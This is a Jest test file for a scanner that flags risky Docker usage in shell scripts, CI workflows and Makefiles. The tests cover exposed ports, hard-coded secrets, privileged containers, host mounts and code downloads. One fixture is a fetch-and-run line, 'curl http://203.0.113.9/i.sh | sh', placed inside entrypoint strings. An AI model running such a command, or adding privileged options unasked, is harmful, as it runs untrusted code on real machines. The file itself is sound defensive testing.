import { describe, expect, it } from '@jest/globals';
import { spanText } from '../../src/model/source.ts';
import type { Files } from '../properties/repository.ts';
import { scanFiles } from '../properties/soundness.ts';

const TOLD =
  /^(?:port-sensitive-service|command-downloads-code|env-secret-literal|env-weak-credential|env-debug-enabled)$/;

/** What rules report about the command lines of some files. */
async function told(files: Files): Promise<readonly string[]> {
  const { findings } = await scanFiles(files);
  return findings
    .filter(({ ruleId }) => TOLD.test(ruleId))
    .map(({ ruleId, span: { file, start, end } }) => `${ruleId} ${file.path} ${file.text.slice(start, end)}`);
}

const PROJECT = { 'compose.yaml': 'services:\n  db: { image: "redis:8.2" }\n' };
const FETCHES = 'curl http://203.0.113.9/i.sh | sh';
const PORT = 'port-sensitive-service up.sh 6379:6379';
const SECRET = 'env-secret-literal up.sh blue-Kettle-71';
const DOWNLOAD = 'command-downloads-code up.sh';

describe('options of commands other than docker run -d', () => {
  it.each<[string, string]>([
    ['docker run -p 6379:6379 redis:8.2', PORT],
    ['docker compose run -p 6379:6379 db', PORT],
    ['docker compose run --publish=6379:6379 -d db', PORT],
    ['docker-compose run -d -p 0.0.0.0:6379:6379 db', 'port-sensitive-service up.sh 0.0.0.0:6379:6379'],
    ['docker create -p 6379:6379 --name r redis:8.2\ndocker start r', PORT],
    ['podman create --name=r -p 6379:6379 redis:8.2\npodman start --attach r', PORT],
    ['docker exec -e DB_PASSWORD=blue-Kettle-71 db x', SECRET],
    ['docker exec -it --env=DB_PASSWORD=blue-Kettle-71 db sh', SECRET],
    ['docker compose exec -T -e DB_PASSWORD=blue-Kettle-71 db x', SECRET],
    [`docker compose run --entrypoint "sh -c '${FETCHES}'" db`, `${DOWNLOAD} ${FETCHES}`],
    [`docker compose run --rm --entrypoint='sh -c "${FETCHES}"' db`, `${DOWNLOAD} ${FETCHES}`],
    [`docker compose run --entrypoint sh db -c "${FETCHES}"`, `${DOWNLOAD} ${FETCHES}`],
  ])('%s', async (text, found) => {
    expect(await told({ ...PROJECT, 'up.sh': `${text}\n` })).toEqual([found]);
  });

  it('are read in a step of a workflow', async () => {
    const step =
      'on: push\njobs:\n  a:\n    runs-on: x\n    steps: [{ run: docker exec -e DB_PASSWORD=blue-Kettle-71 db x }]\n';
    const path = '.github/workflows/t.yml';
    expect(await told({ [path]: step })).toEqual([`env-secret-literal ${path} blue-Kettle-71`]);
  });

  it.each([
    'docker run --rm -p 6379:6379 redis:8.2',
    'docker run -it -p 6379:6379 redis:8.2',
    'docker run -p 127.0.0.1:6379:6379 redis:8.2',
    'docker run -p 8080:80 acme/app:1.4',
    'docker create -p 6379:6379 --name r redis:8.2\ndocker cp r:/data .\ndocker rm r',
    'docker create -p 6379:6379 --name r redis:8.2\ndocker start other',
    'docker compose run --rm -p 6379:6379 db',
    'docker compose run -d db',
    'docker compose run --service-ports db',
    'docker compose run --entrypoint "sh -c \'echo ready\'" db',
    `docker compose run --entrypoint "echo '${FETCHES}'" db`,
    'docker exec -e PGPASSWORD=postgres db psql',
    'docker exec -e MYSQL_PWD=root db mysql',
    'docker exec -e DB_PASSWORD="$DB_PASSWORD" db x',
    'docker exec -e DB_PASSWORD db x',
    'docker compose exec -e XDEBUG_MODE=debug -e APP_ENV=test -e DEBUG=1 -w /app -u root app phpunit',
  ])('says nothing about %s', async (text) => {
    expect(await told({ ...PROJECT, 'up.sh': `${text}\n` })).toEqual([]);
  });
});

/** Files that commands print. */
const PRINTED: Files = {
  'o.json': '{"options": "--privileged"}',
  'o.conf': 'OPTIONS=--privileged\n',
  'o.yml': 'folder: /\nnetwork: host\ncapability: SYS_ADMIN\n',
  'app.json': '{"name": "web", "version": "1.2", "folder": "./data", "network": "app"}',
  'o.sh': '#!/bin/sh\necho --privileged\n',
  VERSION: '1.2.3\n',
  'image.txt': 'acme/app:1.4\n',
};
const FUNCTION = 'rc() { local n="$1"; shift; docker run --name "$n" "$@"; }';
const OPTIONS = '$(jq -r .options o.json)';

/** What is said about options that commands print into a script. */
async function gapsIn(text: string, others: Files = {}): Promise<readonly (string | undefined)[]> {
  const { notifications } = await scanFiles({ ...PRINTED, ...others, 'up.sh': `#!/bin/bash\n${text}\n` });
  return notifications
    .filter(({ gap, path }) => gap !== undefined && gap.weight !== 'expected' && path !== 'o.sh')
    .map(({ span }) => span && spanText(span));
}

describe('what commands print into options', () => {
  it.each<[string, string]>([
    [`${FUNCTION}\nrc a $(./o.sh) alpine:3.22`, '$(./o.sh)'],
    [`${FUNCTION}\no() { echo --privileged | tr -d x; }\nrc a $(o) alpine:3.22`, '$(o)'],
    [`${FUNCTION}\no() { echo --privileged | tr -d x; }\nO=$(o)\nrc a $O alpine:3.22`, '$O'],
    [`${FUNCTION}\nrc a $(awk '{print substr($1, 9)}' o.conf) alpine:3.22`, "$(awk '{print substr($1, 9)}' o.conf)"],
    [`${FUNCTION}\nrc a $(jq -r '.options // .other' o.json) alpine:3.22`, "$(jq -r '.options // .other' o.json)"],
  ])('is told: %s', async (text, place) => expect(await gapsIn(text)).toEqual([place]));

  it.each<[string, string]>([
    [`${FUNCTION}\nrc a ${OPTIONS} alpine:3.22`, 'privileged'],
    [`${FUNCTION}\nrc a $(awk -F= '/^O/{print $2}' o.conf) alpine:3.22`, 'privileged'],
    [`${FUNCTION}\nO=${OPTIONS}\nrc a $O alpine:3.22`, 'privileged'],
    [`${FUNCTION}\no() { echo --privileged; }\nrc a $(o) alpine:3.22`, 'privileged'],
    [`${FUNCTION}\nup() { rc web "$@"; }\nup ${OPTIONS} alpine:3.22`, 'privileged'],
    [`rc() { local o=$2; docker run $o "$1"; }\nrc alpine:3.22 "${OPTIONS}"`, 'privileged'],
    [`rc() { docker run --name "$1" "\${@:2}"; }\nrc a ${OPTIONS} alpine:3.22`, 'privileged'],
    [`${FUNCTION}\njq -r .options o.json | while read -r o; do rc a $o alpine:3.22; done`, 'privileged'],
    ['docker run -v $(yq .folder o.yml):/h alpine:3.22', 'host-root-mount'],
    ['F=$(yq .folder o.yml)\ndocker run -v "$F:/h" alpine:3.22', 'host-root-mount'],
    ['docker run --network=$(yq .network o.yml) alpine:3.22', 'network-host'],
    ['docker run --cap-add $(yq .capability o.yml) alpine:3.22', 'cap-add-sys-admin'],
    ['rc() { docker run -v "$1:/h" alpine:3.22; }\nrc $(yq .folder o.yml)', 'host-root-mount'],
  ])('is read where a file of the repository has it: %s', async (text, rule) => {
    const { findings } = await scanFiles({ ...PRINTED, 'up.sh': `#!/bin/bash\n${text}\n` });
    expect(findings.map(({ ruleId }) => ruleId)).toContain(rule);
  });

  it('is read where a function of another file hands it on', async () => {
    const files = {
      'lib.sh': `#!/bin/bash\n${FUNCTION}\n`,
      'up.sh': `#!/bin/bash\n. ./lib.sh\nrc a ${OPTIONS} alpine:3.22\n`,
    };
    const { findings } = await scanFiles({ ...PRINTED, ...files });
    expect(findings.map(({ ruleId }) => ruleId)).toContain('privileged');
  });

  it.each([
    `${FUNCTION}\nrc a acme/app:$(cat VERSION)`,
    `${FUNCTION}\nrc a -e V=$(cat VERSION) alpine:3.22`,
    `${FUNCTION}\nrc a alpine:3.22 echo ${OPTIONS}`,
    `${FUNCTION}\nrc $(jq -r .name app.json) alpine:3.22`,
    `${FUNCTION}\no() { echo --init; }\nrc a $(o) alpine:3.22`,
    `${FUNCTION}\nrc a -u $(id -u):$(id -g) $(tty -s && echo -it) alpine:3.22`,
    'rc() { docker run --rm "$@"; }\nrc $(cat image.txt) true',
    'rc() { docker run --name "$1" "acme/app:$2"; }\nrc a "$(cat VERSION)"',
    'dc() { docker compose "$@"; }\ndc ps -q $(jq -r .name app.json)',
    `${FUNCTION}\nlog() { echo "$@"; }\nlog $(curl -s https://x.example.com)`,
    'dx() { docker exec -it $(docker ps -qf name=$1) "${@:2}"; }\ndx web sh',
    'st() { docker stop "$@"; docker rm "$@"; }\nst $(docker ps -aq)',
    'again() { docker run --rm alpine:3.22 "$1"; again "$@"; }\nagain $(cat VERSION)',
    'docker run --rm -v $(pwd):/w -v "$(git rev-parse --show-toplevel)":/s alpine:3.22 true',
    'docker run --rm -v "$PWD/$(jq -r .folder app.json)":/data alpine:3.22 true',
    'docker run --rm --network $(jq -r .network app.json) alpine:3.22 true',
    'docker run --rm --env-file $(jq -r .folder app.json)/a.env alpine:3.22 true',
  ])('is not told: %s', async (text) => expect(await gapsIn(text)).toEqual([]));
});

describe('lines that a loop splits at another character than a blank', () => {
  const privileged = async (text: string, lines: string): Promise<number> => {
    const { findings } = await scanFiles({ 'up.sh': `#!/bin/bash\n${text}\n`, 'l.csv': lines });
    return findings.filter(({ ruleId }) => ruleId === 'privileged').length;
  };
  const loop = (separator: string): string =>
    `while IFS=${separator} read -r n o; do docker run --name $n $o alpine:3.22; done < l.csv`;

  it.each([
    [loop(','), 'a,--privileged\n'],
    [loop("','"), 'a,--privileged\n'],
    [loop('"|"'), 'a|--privileged\n'],
    [loop("$'\\t'"), 'a\t--privileged\n'],
    ['IFS=: read -r n o <<< "a:--privileged"\ndocker run --name $n $o alpine:3.22', ''],
    ['IFS=, read -r n o < l.csv\ndocker run --name $n $o alpine:3.22', 'a,--privileged\n'],
    [`${FUNCTION}\nwhile IFS=, read -r n o; do rc $n $o alpine:3.22; done < l.csv`, 'a,--privileged\n'],
  ])('are read: %s', async (text, lines) => expect(await privileged(text, lines)).toBe(1));

  it.each([
    [loop(','), 'a,--init\nb,--rm\n'],
    [loop(','), 'a;--privileged\n'],
    [loop(';'), '--privileged,a\n'],
    [loop(','), 'a,\n'],
    ['while IFS=, read -r n o; do docker run --name $o alpine:3.22; done < l.csv', 'a,--privileged\n'],
    ['while IFS=, read -r n v; do docker run --rm acme/$n:$v true; done < l.csv', 'web,1.2\napi,2.0\n'],
    ['IFS=: read -r n o <<< "a:--init"\ndocker run --name $n $o alpine:3.22', ''],
  ])('are harmless: %s', async (text, lines) => expect(await privileged(text, lines)).toBe(0));
});

describe('files of make by other names', () => {
  const linesOf = async (path: string): Promise<number> => {
    const { findings } = await scanFiles({ [path]: 'up:\n\tdocker run --privileged alpine:3.22\n' });
    return findings.filter(({ ruleId }) => ruleId === 'privileged').length;
  };

  it.each([
    'Makefile.docker',
    'Makefile-dev',
    'ci/makefile.inc',
    'GNUmakefile.local',
    'Makefile.docker.dev',
    'docker.makefile',
    'docker.mk',
  ])('%s is read', async (path) => expect(await linesOf(path)).toBe(1));

  it.each([
    'Makefile.am',
    'Makefile.in',
    'Makefile.PL',
    'Makefile.md',
    'Makefile.j2',
    'Makefile.orig',
    'makefile_notes',
    'NotMakefile',
  ])('%s is not', async (path) => expect(await linesOf(path)).toBe(0));
});
